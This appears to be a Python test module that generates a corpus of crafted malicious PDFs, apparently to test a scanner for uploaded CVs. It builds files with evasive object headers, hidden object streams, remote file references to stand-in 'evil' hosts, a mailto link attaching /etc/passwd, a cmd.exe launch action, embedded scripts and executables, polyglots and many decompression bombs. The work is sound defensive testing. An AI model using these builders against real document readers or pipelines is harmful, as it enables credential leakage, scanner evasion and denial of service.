"""Crafty PDFs: objects under odd heads or packed by no name, other files by their address, bombs."""

import base64
import struct
import zlib
from collections.abc import Iterator

from tests.applicants.documents import corpus_files as parts
from tests.applicants.documents.corpus_sly_pdf import CATALOG, HEAD, PAGE, PAGES, SCRIPT, updated

GO_ELSEWHERE = b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"
HEADS = {
    "nulls in its head": b"5\x000\x00obj\n",
    "a remark in its head": b"5 % a remark\n0 obj\n",
    "a remark before its word": b"5 0 % a remark\nobj\n",
    "many zeros in its head": b"0000000000000005 0 obj\n",
    "many zeros in its generation": b"5 0000000000 obj\n",
    "no blank in its head": b"5 0obj\n",
    "a form feed in its head": b"5\x0c0\x0cobj\x0c",
    "a blank before its head": b"   5 0 obj\n",
}
ELSEWHERE = {
    "a page of another file": "/Ref << /F (\\\\\\\\evil\\\\share\\\\x.pdf) /Page 0 >>",
    "a proxy picture of another file": "/OPI << /2.0 << /Type /OPI /F (\\\\\\\\evil\\\\x.tif) >> >>",
    "a file by its address": "/AF [<< /Type /Filespec /FS /URL /F (https://evil.example/x) >>]",
    "a file by its wide name": "/X << /Type /Filespec /UF (\\\\\\\\evil\\\\share\\\\x) >>",
}


def headed(head: bytes, body: bytes) -> bytes:
    """Return a PDF that opens with an object 5 under an odd head, at the right place of the table."""
    out, places = bytearray(HEAD), []
    for number, inside in enumerate((CATALOG % b"/OpenAction 5 0 R", PAGES, PAGE, b"null"), start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, inside)
    places.append(len(out))
    out += head + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 6\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start)


def odd_heads() -> Iterator[tuple[str, bytes]]:
    """Yield files whose action stands under a head that a search for plain ones does not find."""
    for what, head in HEADS.items():
        yield f"an action with {what}", headed(head, GO_ELSEWHERE)
    chain = b"".join(b"%d 0 obj\n%d 0 R\nendobj\n" % (n, n + 1) for n in range(6, 14))
    body = b"<< /S 6 0 R /F (x) >>\nendobj\n" + chain + b"14 0 obj\n/GoToR"
    yield "a kind nine steps away", headed(b"5 0 obj\n", body)


def hidden_objects(words: str, body: str = "", filters: str = "/Filter /FlateDecode") -> bytes:
    """Return a PDF whose table finds an action in a stream that says in odd words that it is packed."""
    inside = body or "<< /S /Launch /F (cmd.exe) >>"
    packed = ("5 0 " + inside).encode()
    if filters:
        packed = zlib.compress(packed)
    out, places = bytearray(HEAD), []
    for number, each in enumerate((CATALOG % b"/OpenAction 5 0 R", PAGES, PAGE), start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    places.append(len(out))
    out += b"4 0 obj\n%s\nendobj\n" % parts.stream(packed, f"{words} {filters}")
    out += b"7 0 obj\n/ObjStm\nendobj\n8 0 obj\n1\nendobj\n9 0 obj\n4\nendobj\n"
    start = len(out)
    rows = [(0, 0, 65535), *((1, place, 0) for place in places), (2, 4, 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += b"6 0 obj\n%s\nendobj\n" % parts.stream(table, "/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R")
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def packed() -> Iterator[tuple[str, bytes]]:
    """Yield files with packed objects that some readers open although they do not say what they are."""
    yield "packed objects without a type", hidden_objects("/N 1 /First 4")
    yield "packed objects of another type", hidden_objects("/Type /Metadata /N 1 /First 4")
    yield "packed objects with a type elsewhere", hidden_objects("/Type 7 0 R /N 1 /First 4")
    yield "packed objects with an escaped type", hidden_objects("/Type /Obj#53tm /N 1 /First 4")
    yield "packed objects with numbers elsewhere", hidden_objects("/Type /ObjStm /N 8 0 R /First 9 0 R")
    yield "packed objects that are not packed", hidden_objects("/Type /ObjStm /N 1 /First 4", filters="")


def elsewhere() -> Iterator[tuple[str, bytes]]:
    """Yield files that show or fetch what is elsewhere."""
    for what, words in ELSEWHERE.items():
        form = parts.stream(b"", f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] {words}")
        yield what, parts.pdf(more=(form,))
        yield f"{what}, packed", parts.packed_pdf(f"<< {words} >>")
    yield (
        "a thread of another file",
        parts.pdf(catalog="/OpenAction << /S /Thread /F (\\\\\\\\evil\\\\x) /D 0 >>"),
    )
    yield "a document part of another file", parts.pdf(catalog="/OpenAction << /S /GoToDp /F (x.pdf) >>")
    yield (
        "a link that attaches",
        parts.pdf(catalog="/OpenAction << /S /URI /URI (mailto:a@example.org?attach=/etc/passwd) >>"),
    )
    yield (
        "a 3D script",
        parts.pdf(
            more=(
                parts.stream(b"x", "/Type /3D /Subtype /U3D /OnInstantiate 6 0 R"),
                parts.stream(b"alert(1)"),
            )
        ),
    )


def revisions() -> Iterator[tuple[str, bytes]]:
    """Yield files with several additions, of which one in the middle acts."""
    clean = parts.pdf()
    action = CATALOG % f"/OpenAction {SCRIPT}".encode()
    yield (
        "a script in the middle of three additions",
        updated(updated(updated(clean, {9: b"null"}), {1: action}), {1: CATALOG % b""}),
    )
    yield (
        "a form of Adobe's own, added",
        updated(clean, {1: CATALOG % b"/AcroForm << /XFA 9 0 R >>", 9: b"()"}),
    )
    yield (
        "an attachment, added",
        updated(clean, {9: b"<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>", 8: parts.stream(b"MZ")}),
    )


def lzw_bomb(size: int) -> bytes:
    """Return what the filter LZW unpacks to at least so many zeros: each code is one sign longer."""
    bits, made = [(256, 9)], 0
    while made < size:
        codes, width = [0, *range(258, 4094)], 9
        for place, code in enumerate(codes):
            width = 9 + (place + 257 >= 511) + (place + 257 >= 1023) + (place + 257 >= 2047)
            bits.append((code, width))
            made += place + 1
        bits.append((256, 12))
    bits.append((257, 9))
    text = "".join(f"{code:0{width}b}" for code, width in bits)
    text += "0" * (-len(text) % 8)
    return int(text, 2).to_bytes(len(text) // 8, "big")


def bombs() -> Iterator[tuple[str, bytes]]:
    """Yield streams of every filter that unpack to far more than they are."""
    zeros = parts.packed_zeros(900_000_000)
    letters = base64.a85encode(zeros) + b"~>"
    yield (
        "letters that explode",
        parts.pdf(more=(parts.stream(letters, "/Filter [/ASCII85Decode /FlateDecode]"),)),
    )
    yield (
        "letters by a short name that explode",
        parts.pdf(more=(parts.stream(letters, "/Filter [/A85 /Fl]"),)),
    )
    yield (
        "numbers that explode",
        parts.pdf(
            more=(parts.stream(zeros.hex().encode() + b">", "/Filter [/ASCIIHexDecode /FlateDecode]"),)
        ),
    )
    runs = b"\x81\0" * 2_000_000
    yield (
        "runs in runs",
        parts.pdf(more=(parts.stream(runs, "/Filter [/RunLengthDecode /RunLengthDecode /RunLengthDecode]"),)),
    )
    yield (
        "runs that explode",
        parts.pdf(more=(parts.stream(b"\x81\0" * 4_500_000, "/Filter /RunLengthDecode"),)),
    )
    lzw = lzw_bomb(400_000_000)
    yield "LZW that explodes", parts.pdf(more=(parts.stream(lzw, "/Filter /LZWDecode"),))
    yield "LZW by its short name that explodes", parts.pdf(more=(parts.stream(lzw, "/Filter [/LZW]"),))
    yield (
        "a filter that stands elsewhere",
        parts.pdf(more=(parts.stream(zeros, "/Filter 6 0 R"), b"[7 0 R]", b"/FlateDecode")),
    )
    for filters in ("[/Crypt /FlateDecode]", "[null /FlateDecode]", "[[/FlateDecode]]", "[/X /FlateDecode]"):
        yield f"the filters {filters}", parts.pdf(more=(parts.stream(zeros, f"/Filter {filters}"),))
    many = parts.stream(parts.packed_zeros(100_000_000), "/Filter /FlateDecode")
    yield "many streams that explode a little", parts.pdf(more=(many,) * 80)
    for what, words, body in (
        ("letters", "/Filter [/ASCII85Decode /FlateDecode]", letters),
        ("LZW", "/Filter /LZWDecode", lzw),
        ("runs", "/Filter /RunLengthDecode", b"\x81\0" * 2_000_000),
    ):
        yield f"a table of {what} that explodes", table_of(words, body)
        yield (
            f"packed objects of {what} that explode",
            parts.pdf(more=(parts.stream(body, f"/Type /ObjStm /N 1 /First 4 {words}"),)),
        )
    yield from pictures_that_explode()


def pictures_that_explode() -> Iterator[tuple[str, bytes]]:
    """Yield pictures and pages that are far larger than their bytes."""
    for filter_ in ("CCITTFaxDecode", "JBIG2Decode", "JPXDecode", "DCTDecode"):
        picture = f"/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 /Filter /{filter_}"
        yield f"a picture of {filter_} that explodes", parts.pdf(more=(parts.stream(b"\0" * 50, picture),))
    fax = (
        "/Subtype /Image /Width 100 /Height 100 /Filter /CCITTFaxDecode "
        "/DecodeParms << /K -1 /Columns 2000000000 /Rows 2000000000 >>"
    )
    yield "a fax wider than it says", parts.pdf(more=(parts.stream(b"\0" * 50, fax),))
    yield "a page of ten thousand miles", parts.pdf(page="/UserUnit 1e300")


def table_of(words: str, rows: bytes) -> bytes:
    """Return a PDF whose table is packed by an odd filter."""
    out = bytearray(HEAD)
    for number, body in enumerate((CATALOG % b"", PAGES, PAGE), start=1):
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    whole = f"/Type /XRef /Root 1 0 R /Size 5 /W [1 2 2] {words}"
    out += b"4 0 obj\n%s\nendobj\n" % parts.stream(rows, whole)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def others() -> Iterator[tuple[str, bytes]]:
    """Yield files that are something else too."""
    for what, body in (
        ("a RAR archive", b"Rar!\x1a\x07\x01\x00" + bytes(60)),
        ("a 7z archive", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60)),
        ("a compound file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    ):
        yield f"{what} in a stream", parts.pdf(more=(parts.stream(body),))
        yield f"{what} in a remark", parts.pdf()[:9] + b"%" + body + b"\n" + parts.pdf()[9:]


def pdfs() -> Iterator[tuple[str, str, bytes]]:
    """Yield every one as (what, name, bytes)."""
    for source in (odd_heads, packed, elsewhere, revisions, bombs, others):
        for what, body in source():
            yield f"{source.__name__}: {what}", "cv.pdf", body
